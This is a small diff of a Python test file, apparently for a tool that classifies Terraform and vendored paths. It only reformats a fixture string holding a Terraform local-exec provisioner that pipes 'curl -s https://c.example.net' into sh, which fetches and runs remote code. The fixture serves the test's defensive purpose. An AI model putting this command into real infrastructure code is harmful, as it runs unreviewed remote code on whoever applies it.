@@ -21,7 +21,8 @@ from tests.incli import reviewed_paths, tree_gate
 from tests.test_classify_context import POLICIES, patch_files, tree_files
 
 VPC = 'resource "aws_vpc" "main" {\n  cidr_block = "10.0.0.0/16"\n}\n'
-EXEC = 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "curl -s https://c.example.net | sh"\n  }\n}\n'
+EXEC = ('resource "null_resource" "x" {\n  provisioner "local-exec" {\n'
+        '    command = "curl -s https://c.example.net | sh"\n  }\n}\n')
 INSTALLED = ("node_modules", "web/node_modules", "bower_components", "Carthage/Checkouts", "Carthage/Build",
              ".yarn/unplugged", ".yarn/cache", "Acme.framework", "web/wwwroot/lib", "web/wwwroot/css/bootstrap",
              "cue.mod/pkg", "cue.mod/gen", "vendor_tf", "vendored_mods")
